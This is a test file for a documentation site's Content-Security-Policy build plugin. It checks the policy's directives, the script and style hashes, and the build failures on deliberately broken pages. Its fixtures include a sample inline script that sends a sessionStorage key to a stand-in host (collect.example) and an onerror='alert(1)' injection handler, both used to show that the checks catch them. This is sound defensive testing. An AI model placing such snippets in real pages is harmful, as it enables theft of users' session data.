// The Content-Security-Policy of every page (plugins/content-security-policy/, issue 28), without a
// browser: the policy's directives; each check that stops the build, shown failing on a page made
// wrong on purpose (no policy, an unknown inline script, an inline event handler, a script or style
// attribute without its hash, a connect-src naming a host the catalogue does not document); the
// plugins that write pages after the build finishing before the policy is written; and every page
// of build/ and build-test/ as written, when they exist.
import {test, expect} from '@playwright/test';
import {apiPages} from '../../api/catalogue/pages';
import {apiHosts} from '../../api/catalogue/groups';
import {connectProblems, policyOf, unknownInlineProblems, writtenPageProblems} from '../../plugins/content-security-policy/checks';
import {INLINE_SCRIPTS, kindOf, type SiteFacts} from '../../plugins/content-security-policy/inline-scripts';
import {summarised} from '../../plugins/content-security-policy/index';
import {scanPage, withPolicy} from '../../plugins/content-security-policy/page';
import {
  DIRECTIVES,
  documentedApiHosts,
  pagePolicy,
  parsePolicy,
  serialisePolicy,
  sha256,
} from '../../plugins/content-security-policy/policy';
import {earlyInputScript} from '../../plugins/page-start';
import {redirectPage} from '../../plugins/redirects';

const site: SiteFacts = {baseUrl: '/'};
const hosts = documentedApiHosts(apiPages);

// The inline scripts of a built page, as the build writes them (shortened where only their shape matters).
const colourMode =
  '!function(){var t=function(){try{return window.localStorage.getItem("theme-c62")}catch(t){}}();document.documentElement.setAttribute("data-theme",t||"light"),document.documentElement.setAttribute("data-theme-choice",t||"system")}()';
const tabChoice =
  '!function(t){try{var e,a,r=localStorage.getItem("docusaurus.tab.networks-c62"),n=t.parentNode;if(!r)return;n.querySelectorAll("[data-value]")}catch(t){}}(document.currentScript)';
const banner =
  'document.addEventListener("DOMContentLoaded",function(){void 0===window.docusaurus&&insertBanner()});function insertBanner(){var n=document.createElement("div");n.id="__docusaurus-base-url-issue-banner-container",n.innerHTML=\'<div id="__docusaurus-base-url-issue-banner" style="border: thick solid red;"><p style="font-weight: bold;">Your Docusaurus site did not load properly.</p></div>\',document.body.prepend(n)}';
const starter =
  '!function(e){var n=document;function i(){return performance.getEntriesByName("first-contentful-paint").length>0}i()}(["/assets/js/runtime~main.1.js","/assets/js/main.2.js"])';

/** A built page: the scripts of the <head>, then the body's colour-mode script, the app's HTML and its scripts. */
function builtPage({
  head = [earlyInputScript(), starter],
  app = '<p>Text</p>',
  policy,
}: {head?: string[]; app?: string; policy?: string} = {}): string {
  const meta = policy === undefined ? '' : `<meta http-equiv="Content-Security-Policy" content="${policy}">`;
  const headScripts = head.map((script) => `<script>${script}</script>`).join('');
  return `<!doctype html><html lang=en><head><meta charset=UTF-8>${meta}<title>Page</title>${headScripts}<link rel=stylesheet href=/assets/css/styles.css /></head><body><svg style="display: none;"></svg><script>${colourMode}</script><div id=__docusaurus>${app}</div></body></html>`;
}

/** The page as the plugin leaves it: its own policy written in. */
function withItsPolicy(html: string): string {
  return withPolicy(html, policyOf(scanPage(html), site, hosts), 'page.html');
}

test.describe('the policy', () => {
  test('has every directive the issue names, and never unsafe-inline or unsafe-eval', () => {
    const policy = serialisePolicy(
      pagePolicy({
        scriptHashes: [sha256('a()')],
        styleAttributeHashes: [sha256('color: red')],
        apiHosts: hosts,
      }),
    );
    expect(policy).toBe(
      `default-src 'self'; script-src 'self' ${sha256('a()')}; style-src 'self' 'unsafe-hashes' ${sha256('color: red')}; img-src 'self' data:; ` +
        `connect-src 'self' ${hosts.join(' ')}; object-src 'none'; base-uri 'self'; form-action 'self'`,
    );
    expect(policy).not.toMatch(/'unsafe-inline'|'unsafe-eval'/);
    expect([...parsePolicy(policy).keys()]).toEqual([...DIRECTIVES]);
  });

  test("a page without style attributes allows none: style-src is 'self'", () => {
    const policy = pagePolicy({scriptHashes: [], styleAttributeHashes: [], apiHosts: hosts});
    expect(policy['style-src']).toEqual(["'self'"]);
  });

  test('connect-src comes from the hosts the catalogue documents for its calls: the four API hosts', () => {
    expect(hosts).toEqual([...Object.values(apiHosts)].sort());
    const policy = pagePolicy({scriptHashes: [], styleAttributeHashes: [], apiHosts: hosts});
    expect(policy['connect-src']).toEqual(["'self'", ...hosts]);
  });

  test('a catalogue host that is not an https origin stops the build', () => {
    const page = apiPages[0];
    const call = page?.calls[0];
    if (page === undefined || call === undefined) throw new Error('the catalogue has no call');
    const broken = [{...page, calls: [{...call, hosts: {mainnet: 'http://api.example.org/v1'}}]}];
    expect(() => documentedApiHosts(broken)).toThrow(/not an https origin/);
  });

  test('a hash is the base64 SHA-256 of the text as written', () => {
    // echo -n 'alert(1)' | openssl dgst -sha256 -binary | base64
    expect(sha256('alert(1)')).toBe("'sha256-bhHHL3z2vDgxUt0W3dWQOrprscmda2Y5pLsLg4GF+pI='");
  });
});

test.describe('the inline scripts the site knows', () => {
  test('each one the build writes is recognised, in its place', () => {
    const html = builtPage({
      head: [earlyInputScript(), starter, banner],
      app: `<div class="tabs-container tabList_x"><ul role=tablist></ul><script>${tabChoice}</script></div>`,
    });
    const redirect = redirectPage('/docs/intro', 'https://docs.spacescan.io/docs/intro', 'Introduction');
    const names = [...scanPage(html).scripts, ...scanPage(redirect).scripts].map((script) => kindOf(script, site)?.name);
    expect(names.sort()).toEqual(INLINE_SCRIPTS.map((kind) => kind.name).sort());
  });

  test('a known script out of its place is not known: a tab script outside a group of tabs, a starter of another base URL', () => {
    const html = builtPage({app: `<div><script>${tabChoice}</script></div>`});
    expect(unknownInlineProblems('page.html', scanPage(html), site)).toHaveLength(1);
    expect(unknownInlineProblems('page.html', scanPage(builtPage()), {baseUrl: '/docs-preview/'})).toEqual([
      expect.stringMatching(/^page\.html: an inline script the site does not know \(!function\(e\)/),
    ]);
  });

  test('the banner brings the style attributes of the HTML it inserts', () => {
    const html = builtPage({head: [earlyInputScript(), starter, banner]});
    const styleSources = parsePolicy(policyOf(scanPage(html), site, hosts)).get('style-src');
    expect(styleSources).toEqual(
      expect.arrayContaining([
        "'unsafe-hashes'",
        sha256('border: thick solid red;'),
        sha256('font-weight: bold;'),
        sha256('display: none;'),
      ]),
    );
  });
});

test.describe('the checks that stop the build, each on a page made wrong on purpose', () => {
  test('a page as the plugin writes it passes them all', () => {
    const html = withItsPolicy(
      builtPage({app: `<div class=tabs-container><script>${tabChoice}</script></div><span style="color: red">x</span>`}),
    );
    expect(writtenPageProblems('page.html', scanPage(html), site, hosts)).toEqual([]);
  });

  test('an inline script the site does not know (one pasted into an MDX page, say) stops the build', () => {
    const html = builtPage({
      app: '<div class="theme-doc-markdown markdown"><script>fetch("https://collect.example/?k="+sessionStorage.getItem("key"))</script></div>',
    });
    expect(unknownInlineProblems('build/docs/intro.html', scanPage(html), site)).toEqual([
      expect.stringMatching(
        /^build\/docs\/intro\.html: an inline script the site does not know \(fetch\("https:\/\/collect\.example\/.*No page may run one.*Fix: remove it/,
      ),
    ]);
  });

  test('an inline event handler stops the build', () => {
    const html = builtPage({app: '<img src=/img/logo.svg alt="" onerror="alert(1)">'});
    expect(unknownInlineProblems('page.html', scanPage(html), site)).toEqual([
      expect.stringMatching(/^page\.html: an inline event handler \(onerror on <img>\)/),
    ]);
  });

  test('an inline <style> element stops the build', () => {
    const html = builtPage({app: '<div class=markdown><style>.markdown{color:red}</style></div>'});
    expect(unknownInlineProblems('page.html', scanPage(html), site)).toEqual([
      expect.stringMatching(/^page\.html: an inline <style> element \(\.markdown\{color:red\}\)/),
    ]);
  });

  test('JSON-LD and other data blocks are not scripts: they need no hash', () => {
    const html = builtPage({
      head: [earlyInputScript(), starter],
      app: '<script type="application/ld+json">{"@type":"BlogPosting"}</script>',
    });
    expect(unknownInlineProblems('page.html', scanPage(html), site)).toEqual([]);
    expect(scanPage(html).scripts).toHaveLength(3);
  });

  test('a page without the policy stops the build', () => {
    expect(writtenPageProblems('build/docs/intro.html', scanPage(builtPage()), site, hosts)).toEqual([
      expect.stringMatching(/^build\/docs\/intro\.html: the page has no Content-Security-Policy <meta>/),
    ]);
  });

  test('an inline script with no matching hash stops the build (a page changed after its policy was written)', () => {
    const html = withItsPolicy(builtPage()).replace('data-theme-choice', 'data-theme-chosen');
    expect(writtenPageProblems('page.html', scanPage(html), site, hosts)).toEqual([
      expect.stringMatching(/^page\.html: the inline script "!function\(\)\{var t=.*has no matching hash in script-src/),
    ]);
  });

  test('a style attribute with no matching hash stops the build', () => {
    const html = withItsPolicy(builtPage()).replace('style="display: none;"', 'style="display: block;"');
    expect(writtenPageProblems('page.html', scanPage(html), site, hosts)).toEqual([
      expect.stringMatching(/^page\.html: 1 style attribute\(s\) with no matching hash in style-src/),
    ]);
  });

  test('a connect-src naming a host the catalogue does not document stops the build, and so does one that lacks a documented host', () => {
    const extra = withItsPolicy(builtPage()).replace("connect-src 'self'", "connect-src 'self' https://collect.example");
    expect(writtenPageProblems('page.html', scanPage(extra), site, hosts)).toEqual([
      expect.stringMatching(/^page\.html: connect-src names https:\/\/collect\.example, which the API catalogue does not document/),
    ]);
    const [dropped = '', ...kept] = hosts;
    expect(connectProblems('page.html', ["'self'", ...kept], hosts)).toEqual([
      expect.stringContaining(`connect-src lacks ${dropped}, which the catalogue documents`),
    ]);
  });

  test("'unsafe-inline' or 'unsafe-eval' in script-src stops the build", () => {
    const html = withItsPolicy(builtPage()).replace("script-src 'self'", "script-src 'self' 'unsafe-inline' 'unsafe-eval'");
    expect(writtenPageProblems('page.html', scanPage(html), site, hosts)).toEqual([
      expect.stringContaining("script-src allows 'unsafe-inline'"),
      expect.stringContaining("script-src allows 'unsafe-eval'"),
    ]);
  });

  test('a policy that is not first in <head> stops the build, and so do two', () => {
    const html = withItsPolicy(builtPage());
    const meta = /<meta http-equiv="Content-Security-Policy"[^>]*>/.exec(html)?.[0] ?? '';
    const late = html.replace(meta, '').replace('<title>', `<title>`).replace('</title>', `</title>${meta}`);
    expect(writtenPageProblems('page.html', scanPage(late), site, hosts)).toEqual([expect.stringContaining('is not first in <head>')]);
    expect(writtenPageProblems('page.html', scanPage(html.replace(meta, meta + meta)), site, hosts)).toEqual([
      expect.stringContaining('has 2 Content-Security-Policy <meta> elements'),
    ]);
  });
});

test('a problem every page shares is told once, with the count and the first pages', () => {
  const lines = [
    'a.html: connect-src names x',
    'b.html: connect-src names x',
    'c.html: connect-src names x',
    'd.html: connect-src names x',
    'e.html: no policy',
  ];
  expect(summarised(lines)).toEqual(['4 pages (a.html, b.html, c.html, …): connect-src names x', 'e.html: no policy']);
});

test.describe('writing the policy', () => {
  test('goes right after <meta charset> (which must stay within the first 1024 bytes), or first in <head> without one', () => {
    expect(withPolicy('<html><head><meta charset=UTF-8><title>t</title></head></html>', "default-src 'self'", 'a.html')).toBe(
      `<html><head><meta charset=UTF-8><meta http-equiv="Content-Security-Policy" content="default-src 'self'"><title>t</title></head></html>`,
    );
    expect(withPolicy('<html><head><title>t</title></head></html>', "default-src 'self'", 'a.html')).toBe(
      `<html><head><meta http-equiv="Content-Security-Policy" content="default-src 'self'"><title>t</title></head></html>`,
    );
    const redirect = withItsPolicy(redirectPage('/docs/intro', 'https://docs.spacescan.io/docs/intro', 'Introduction'));
    expect(redirect).toMatch(
      /^<!doctype html>\n<html lang="en">\n<head>\n<meta charset="utf-8"><meta http-equiv="Content-Security-Policy" /,
    );
    expect(scanPage(redirect).policyFirst).toBe(true);
  });

  test('never twice: a page that already has a policy is refused', () => {
    const html = withItsPolicy(builtPage());
    expect(() => withPolicy(html, "default-src 'self'", 'build/a.html')).toThrow(
      /build\/a\.html already has a Content-Security-Policy <meta>/,
    );
  });
});
